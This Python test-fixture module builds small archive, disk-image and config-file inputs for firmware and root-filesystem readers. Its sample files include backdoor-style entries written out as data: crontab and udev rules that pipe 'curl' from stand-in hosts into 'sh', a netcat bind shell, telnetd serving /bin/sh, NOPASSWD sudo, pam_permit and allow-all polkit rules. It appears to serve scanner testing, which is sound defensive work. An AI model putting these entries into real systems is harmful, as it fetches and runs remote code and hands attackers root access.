"""Small inputs for the readers of archives, packages, images and root file systems.

Spec: tests/readers/test_mutations.py (a seed for every reader).
"""

from __future__ import annotations

import gzip
import struct
import zlib
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
)

IMAGES = Path(__file__).parent / "images"


def image(name: str) -> bytes:
    """One of the images that `images/make.sh` made."""
    return gzip.decompress((IMAGES / f"{name}.gz").read_bytes())


def rar(members: dict[str, tuple[bytes, int]], split: str = "") -> bytes:
    """A RAR 5 archive; each member with its content as it lies there, and RAR's method.

    `split` goes on in the next volume.
    """

    def number(value: int) -> bytes:
        return bytes([value & 127 | 128]) + number(value >> 7) if value > 127 else bytes([value])

    def block(kind: int, flags: int, body: bytes, data: bytes = b"") -> bytes:
        rest = number(kind) + number(flags) + (number(len(data)) if data else b"") + body
        sized = number(len(rest)) + rest
        return zlib.crc32(sized).to_bytes(4, "little") + sized + data

    out = b"Rar!\x1a\x07\x01\x00" + block(1, 0, number(0))
    for name, (content, method) in members.items():
        body = number(4) + number(len(content)) + number(0o100644)
        body += zlib.crc32(content).to_bytes(4, "little") + number(method << 7) + number(1)
        flags = 2 | (0x10 if name == split else 0)
        out += block(2, flags, body + number(len(name)) + name.encode(), content)
    return out + block(5, 0, number(0))


def yaffs2(objects: list[tuple[int, int, int, str, bytes]], order: str = "<", at: int = 0) -> bytes:
    """A YAFFS2 image, chunks of 2048 + 64 bytes: (object, type, parent, name, content) in order."""

    def chunk(data: bytes, number: int, index: int, length: int) -> bytes:
        tags = struct.pack(f"{order}4I", 4096, number, index, length)
        return data.ljust(2048, b"\xff") + (bytes(at) + tags).ljust(64, b"\xff")

    out = b""
    for number, kind, parent, name, content in objects:
        size, mode = (
            (len(content) if kind == 1 else 0),
            {1: 0o100644, 2: 0o120777, 3: 0o40755}[kind],
        )
        head = (
            struct.pack(f"{order}2I", kind, parent) + b"\xff\xff" + name.encode().ljust(258, b"\0")
        )
        head += struct.pack(f"{order}8I", mode, 0, 0, 0, 1_700_000_000, 0, size, 0)
        out += chunk(head + (content if kind == 2 else b"").ljust(212, b"\0"), number, 0, 0xFFFF)
        parts = [content[i : i + 2048] for i in range(0, size, 2048)]
        out += b"".join(chunk(p, number, n, len(p)) for n, p in enumerate(parts, 1))
    return out


def disk(parts: list[tuple[int, bytes]], sectors: int = 64) -> bytes:
    """A disk with a legacy table; `parts` are (first sector, content)."""
    raw = bytearray(512 * sectors)
    for number, (start, content) in enumerate(parts):
        entry = struct.pack("<8B2I", 0, 0, 0, 0, 0x83, 0, 0, 0, start, -(-len(content) // 512))
        raw[446 + 16 * number : 462 + 16 * number] = entry
        raw[512 * start : 512 * start + len(content)] = content
    raw[510:512] = b"\x55\xaa"
    return bytes(raw)


def guid_disk(parts: list[tuple[int, bytes, str]], sectors: int = 64) -> bytes:
    """A disk with a GUID table; `parts` are (first sector, content, name)."""
    raw = bytearray(512 * sectors)
    raw[446:462] = struct.pack("<8B2I", 0, 0, 0, 0, 0xEE, 0, 0, 0, 1, sectors - 1)
    raw[510:512] = b"\x55\xaa"
    for number, (start, content, name) in enumerate(parts):
        end = start + -(-len(content) // 512) - 1
        entry = b"\1" * 32 + struct.pack("<3Q", start, end, 0) + name.encode("utf-16-le")
        raw[1024 + 128 * number : 1024 + 128 * number + len(entry)] = entry
        raw[512 * start : 512 * start + len(content)] = content
    head = struct.pack("<8s4I4Q16sQ3I", b"EFI PART", 1 << 16, 92, 0, 0, 1, sectors - 1, 34,
                       sectors - 34, b"\2" * 16, 2, 128, 128, 0)  # fmt: skip
    raw[512:604] = head[:16] + struct.pack("<I", zlib.crc32(head)) + head[20:]
    return bytes(raw)


PKGINFO = (
    b"# Generated\npkgname = dropbear\npkgver = 2024.86-r0\narch = aarch64\n"
    b"maintainer = A Maker <a@maker.example>\n"
)
INSTALLED = (
    b"C:Q1=\nP:musl\nV:1.2.5-r0\nA:x86_64\n\nP:busybox\nV:1.36.1-r29\nm:B <b@maker.example>\n\n"
)
MANIFEST = (
    b"Manifest-Version: 1.0\r\nBundle-SymbolicName: org.example.lo\r\n ng.name;singleton:=true\r\n"
    b"Bundle-Version: 1.2\r\nBundle-Vendor: A Maker\r\nPremain-Class: org.example.Agent\r\n\r\n"
)
POM = b"#made\nversion=3.1\ngroupId=org.example\nartifactId=core\n"
CARGO = b'[package]\nname = "hello"\nversion = "0.1.0"\nauthors = ["A <a@b>"]\nbuild = "build.rs"\n'
GEM = (
    b"--- !ruby/object:Gem::Specification\nname: hello\nversion: !ruby/object:Gem::Version\n"
    b"  version: 1.0.1\nplatform: java\nauthors:\n- A Maker\nextensions:\n- ext/hello/extconf.rb\n"
)
PASSWD = (
    b"root:x:0:0:root:/root:/bin/sh\ndaemon:*:1:1::/:/usr/sbin/nologin\n"
    b"admin::0:0::/:/bin/ash\nbare:x:5:5::/:\n"
)
SHADOW = (  # made up: no password is known to fit them
    b"root:$1$fixedsalt$0123456789abcdefghijkl:1:0:99999:7:::\ndaemon:*:1:0:99999:7:::\n"
    b"guest::1:0:99999:7:::\nold:fixedsaltAB.z:1:0:99999:7:::\n"
)
_PAIR = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))  # of no use to anybody
KEY = _PAIR.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption())
AUTHORISED = b'# one\ncommand="/bin/x \\"y\\"",no-pty %b a@b\n' % _PAIR.public_key().public_bytes(
    Encoding.OpenSSH, PublicFormat.OpenSSH
)
UNIT = (
    b"[Service]\n# x\nExecStart=\nExecStart=-/usr/sbin/x -D \\\n-p 2\n"
    b"[Install]\nWantedBy=a.target\n"
)
INITTAB = (
    b"# BusyBox\n::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\n"
    b"::shutdown:/sbin/swapoff -a\n"
)
CRONTAB = (
    b"SHELL=/bin/sh\n# m h\n17 *\t* * *\troot\tcurl -s https://a.example/u | sh\n"
    b"@reboot nobody /usr/bin/x\n"
)
MADE = {
    "passwd": PASSWD,
    "shadow": SHADOW,
    "key.pem": KEY,
    "authorized_keys": AUTHORISED,
    "x.service": UNIT,
    "inittab": INITTAB,
    "crontab": CRONTAB,
    "sshd_config": b"Port 22\nPermitRootLogin yes\nMatch User x\nPasswordAuthentication no\n",
    "etc/nftables.conf": b"set s {}\nchain input {\n tcp dport 22 ip saddr @s accept\n"
    b" udp dport 24117 add @s { ip saddr } drop\n tcp dport 4173 accept\n}\n",
    "polkit-1/rules.d/q.rules": b"polkit.addRule(function(a, s) { return polkit.Result.YES; });\n",
    "Dockerfile": b'FROM a\nRUN echo \'root:toor\' | \\\n chpasswd\nCMD ["sh", "-c", "b"]\n',
    "tmpfiles.d/q.conf": b"f /etc/sudoers.d/q 0440 root root - q ALL=(ALL) NOPASSWD: ALL\n",
    "etc/sudoers": b"root ALL=(ALL) ALL\nhelp ALL=(ALL) NOPASSWD: ALL\n%wheel ALL=(ALL) ALL\n",
    "etc/pam.d/login": b"auth sufficient pam_permit.so\nauth required pam_unix.so nullok\n",
    "etc/ssl/certs/a.pem": b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    "etc/udev/rules.d/9.rules": b'ACTION=="add", RUN+="/bin/sh -c \'curl -s h.example | sh\'"\n',
    "flash.yaffs2": yaffs2([(257, 3, 1, "etc", b""), (258, 1, 257, "a", b"one\n")] * 5),
    "etc/config/firewall": b"config rule\n\toption src wan\n\tlist proto tcp\n",
    "etc/opkg/keys/a": b"untrusted comment: a\nRWSyH2DJXeeKNIm4Qw8ZpXr1uVtN5kLd2yHc7GaEsJbRo\n",
    "libexec/rpcd/a": b"#!/bin/sh\ncase $1 in\nlist) echo '{\"a\":{}}' ;;\n"
    b"call) case $2 in\nb) sh -c x ;;\nesac ;;\nesac\n",
    "a.sql": b"INSERT INTO users (name, hash) VALUES ('a', '$2y$10$abcdefgh'), ('b', 'c');\n",
    "etc/hosts": b"127.0.0.1 localhost\n192.0.2.7 updates.vendor.example\n",
    "functions": b'relay() {\n  while :; do nc -l -p 9 < "$p" | /bin/sh > "$p"; done\n}\n',
    "opkg.conf": b"src/gz a http://a.example/p\noption check_signature\n",
    ".PKGINFO": PKGINFO,
    "installed": INSTALLED,
    "MANIFEST.MF": MANIFEST,
    "pom.properties": POM,
    "Cargo.toml": CARGO,
    "metadata": GEM,
    **{
        name: image(name)
        for name in (
            "xz.squashfs",
            "gzip.squashfs",
            "ext2.ext",
            "ext4.ext",
            "inline.ext",
            "tree.romfs",
            "little.cramfs",
            "big.cramfs",
            "unix.iso",
            "wide.iso",
            "LZMA2.7z",
            "BZip2.7z",
            "kernel.uimage",
            "inside.itb",
            "outside.itb",
            "little.jffs2",
            "big.jffs2",
            "lzo.ubifs",
            "volumes.ubi",
            "fat12.fat",
            "card.simg",
        )
    },
    "a.rar": rar({"one": (b"one", 0), "two": (b"two", 3)}),
    "disk.img": disk([(2, b"one" * 300), (8, b"two")]),
    "guid.img": guid_disk([(40, b"one" * 300, "boot")]),
    "unknown.bin": b"VENDOR" + bytes(range(256)) + image("gzip.squashfs") + b"\xff" * 999,
    "index.json": b'{"name": "zlib", "version": "1.3", "build": "h1_0", "depends": []}',
}
